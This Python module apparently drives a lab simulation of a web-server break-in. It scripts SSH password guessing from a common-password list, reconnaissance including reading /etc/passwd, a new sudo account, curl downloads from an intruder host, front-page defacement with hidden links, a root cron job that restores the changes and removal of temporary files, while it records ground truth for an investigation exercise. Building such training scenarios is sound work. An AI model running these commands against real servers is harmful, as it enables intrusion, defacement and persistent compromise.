"""The incident: real programs against real daemons, harmless in effect. An outside address guesses SSH passwords until
the shared web account opens; then sudo, a new account, a scheduled job, hidden links in the front page; visitors get
the changed page; the new account comes back from another address."""

from __future__ import annotations

import concurrent.futures
import random

from lab import cast, site
from lab.network import PUBLIC
from lab.play.stage import Stage, Terminal, guess
from lab.truth import now

PAGE = "/var/www/html/index.html"
SCRIPT = "/usr/local/sbin/lam-moi-trang"
CRON_FILE = f"/var/spool/cron/crontabs/{cast.NEW_ACCOUNT}"
NAMES = ("root", "admin", "test", "www", "webmaster", "minh", "hoa", "user", "quanly", "vanthu", "quantri")
WORDS = ("123456", "12345678", "admin123", "Abc@123", "1234567890", "matkhau", "quantri", "quantri123", "P@ssw0rd")


def play(stage: Stage) -> None:
    """The incident in the second half of the play; later the administrator's mending, which does not last."""
    short = stage.minutes < 20
    if stage.wait(stage.minutes * 60 * (0.35 if short else 0.55)):
        intruder(stage, 24 if short else 240)
        if stage.wait(stage.minutes * 60 * 0.05):
            restore_by_administrator(stage)


def intruder(stage: Stage, tries: int) -> None:
    """The whole incident, once, beginning now."""
    chance = stage.chance("intruder")
    stage.nodes["outside"].write("/srv/kho/lam-moi.sh", refresh_script(), 0o755)
    guessing(stage, chance, tries)
    terminal = stage.terminal("outside", f"{cast.SHARED.login}@{PUBLIC}", cast.SHARED.password, source=cast.INTRUDER)
    look_around(stage, terminal, chance)
    make_account(stage, terminal)
    change_page(stage, terminal)
    schedule(stage, terminal)
    terminal.leave()
    stage.wait(chance.uniform(20, 40))
    come_back(stage, chance)


def refresh_script() -> str:
    """What the scheduled job runs: puts the hidden links back when somebody has taken them out."""
    return (
        "#!/bin/sh\n"
        f"grep -q '{cast.MARK}' {PAGE} && exit 0\n"
        f"curl -s http://{cast.INTRUDER_NAME}/l.txt -o /tmp/.l && sed -i '/<footer>/r /tmp/.l' {PAGE}\n"
    )


def guessing(stage: Stage, chance: random.Random, tries: int) -> None:
    """Three guesses at a time, then the right one."""
    begin = now()
    plan = [(chance.choice(NAMES), chance.choice(WORDS)) for _ in range(tries - 4)]
    plan += [(cast.SHARED.login, word) for word in WORDS[-4:]]
    with concurrent.futures.ThreadPoolExecutor(3) as pool:
        hits = list(pool.map(lambda pair: guess(stage, cast.INTRUDER, *pair), plan))
    if any(hits):
        raise RuntimeError("A guess that was meant to fail opened the door; the play is wrong.")
    stage.truth.add(
        "chain",
        time=begin,
        until=now(),
        what="ssh-password-guessing",
        host="web1",
        ip=cast.INTRUDER,
        attempts=len(plan),
    )
    at = now()
    if not guess(stage, cast.INTRUDER, cast.SHARED.login, cast.SHARED.password):
        raise RuntimeError("The right password did not open the door; the play is wrong.")
    stage.truth.note(
        entry={"ip": cast.INTRUDER, "time": begin, "opened": at, "host": "web1", "user": cast.SHARED.login}
    )
    tell(stage, at, "ssh-login-by-guessed-password", user=cast.SHARED.login, ip=cast.INTRUDER)


def tell(stage: Stage, at: str, what: str, **facts: str) -> None:
    """One step of the chain on the web server."""
    stage.truth.add("chain", time=at, what=what, host="web1", **facts)


def look_around(stage: Stage, terminal: Terminal, chance: random.Random) -> None:
    """What a person types first on a strange machine."""
    tell(stage, now(), "interactive-session", user=cast.SHARED.login, ip=cast.INTRUDER)
    for command in ("id", "uname -a", "cat /etc/passwd", "ls -la /var/www/html", "ps aux"):
        terminal.type(command, chance.uniform(0.8, 3))
    at = now()
    terminal.sudo("-l", cast.SHARED.password)
    tell(stage, at, "sudo", user=cast.SHARED.login, command="sudo -l")


def make_account(stage: Stage, terminal: Terminal) -> None:
    """A new account with a shell, in the group sudo."""
    at = now()
    terminal.sudo(f"/usr/sbin/useradd -m -s /bin/bash {cast.NEW_ACCOUNT}", cast.SHARED.password)
    tell(stage, at, "account-created", user=cast.SHARED.login, account=cast.NEW_ACCOUNT, command="useradd")
    at = now()
    terminal.sudo(f"/usr/sbin/usermod -aG sudo {cast.NEW_ACCOUNT}", cast.SHARED.password)
    tell(stage, at, "account-into-group-sudo", user=cast.SHARED.login, account=cast.NEW_ACCOUNT, command="usermod")
    terminal.sudo(f"passwd {cast.NEW_ACCOUNT}", cast.SHARED.password)
    terminal.type(cast.NEW_PASSWORD, 1.0)
    at = now()
    terminal.type(cast.NEW_PASSWORD, 1.5)
    tell(stage, at, "password-set", user=cast.SHARED.login, account=cast.NEW_ACCOUNT, command="passwd")
    stage.truth.add("impact", kind="user", value=cast.NEW_ACCOUNT, host="web1", time=at)


def change_page(stage: Stage, terminal: Terminal) -> None:
    """Fetch the piece of page with the links and put it into the front page, by hand."""
    at = now()
    terminal.type(f"curl -s http://{cast.INTRUDER_NAME}/l.txt -o /tmp/.l", 2)
    tell(
        stage,
        at,
        "fetched",
        command="curl",
        url=f"http://{cast.INTRUDER_NAME}/l.txt",
        file="/tmp/.l",
        ip=cast.INTRUDER_STORE,
    )
    at = now()
    terminal.sudo(f"sed -i '/<footer>/r /tmp/.l' {PAGE}", cast.SHARED.password)
    if cast.MARK not in stage.nodes["web1"].read(PAGE):
        raise RuntimeError(f"The page was not changed: {terminal.seen[-500:]}")
    tell(stage, at, "page-changed", user=cast.SHARED.login, file=PAGE, command="sed")
    stage.truth.add("impact", kind="file", value=PAGE, host="web1", time=at)
    stage.truth.add("symptoms", kind="file", value=PAGE, host="web1", time=at)
    stage.truth.add("symptoms", kind="user", value=cast.NEW_ACCOUNT, host="web1", time=at)


def schedule(stage: Stage, terminal: Terminal) -> None:
    """A scheduled job of the new account's that puts the links back."""
    at = now()
    terminal.type(f"curl -s http://{cast.INTRUDER_NAME}/lam-moi.sh -o /tmp/.r", 2)
    terminal.sudo(f"install -m 755 /tmp/.r {SCRIPT}", cast.SHARED.password)
    tell(stage, at, "script-installed", user=cast.SHARED.login, file=SCRIPT, command="install")
    at = now()
    terminal.type(f"echo '*/2 * * * * {SCRIPT}' > /tmp/.c", 1)
    terminal.sudo("crontab /tmp/.c", cast.SHARED.password)
    tell(
        stage,
        at,
        "cron-job-added",
        user=cast.SHARED.login,
        account="root",
        command="crontab",
        file="/var/spool/cron/crontabs/root",
    )
    stage.truth.add("impact", kind="file", value="/var/spool/cron/crontabs/root", host="web1", time=at)
    stage.truth.add("symptoms", kind="file", value=SCRIPT, host="web1", time=at)
    terminal.type("rm -f /tmp/.l /tmp/.r /tmp/.c", 1)


def come_back(stage: Stage, chance: random.Random) -> None:
    """The new account logs in from another address and looks at its work."""
    at = now()
    terminal = stage.terminal("outside", f"{cast.NEW_ACCOUNT}@{PUBLIC}", cast.NEW_PASSWORD, source=cast.INTRUDER_RETURN)
    terminal.type("id", chance.uniform(1, 3))
    terminal.type(f"grep -c footer {PAGE}", chance.uniform(1, 3))
    terminal.sudo("crontab -l", cast.NEW_PASSWORD)
    terminal.leave()
    tell(stage, at, "login-of-new-account", user=cast.NEW_ACCOUNT, ip=cast.INTRUDER_RETURN)


def restore_by_administrator(stage: Stage) -> None:
    """The administrator, who knows of nothing, lays the old front page over the changed one; the job changes it back."""
    person = cast.ADMIN
    stage.nodes["web1"].write("/var/backups/web/index.html", site.pages()["/index.html"])
    at = now()
    terminal = stage.terminal("pc-admin", f"{person.login}@web1", "", person)
    terminal.sudo(f"cp /var/backups/web/index.html {PAGE}", person.password)
    terminal.leave()
    laid = now()
    stage.truth.add(
        "ordinary",
        time=at,
        kind="user",
        value=person.login,
        host="web1",
        why="the administrator laid the old page over it",
    )
    while stage.wait(1):
        if cast.MARK in stage.nodes["web1"].read(PAGE):
            at = now()
            tell(stage, at, "page-changed-by-cron-job", user="root", file=PAGE, command=SCRIPT, after=laid)
            return
    raise RuntimeError("The scheduled job did not put the links back before the end of the play.")
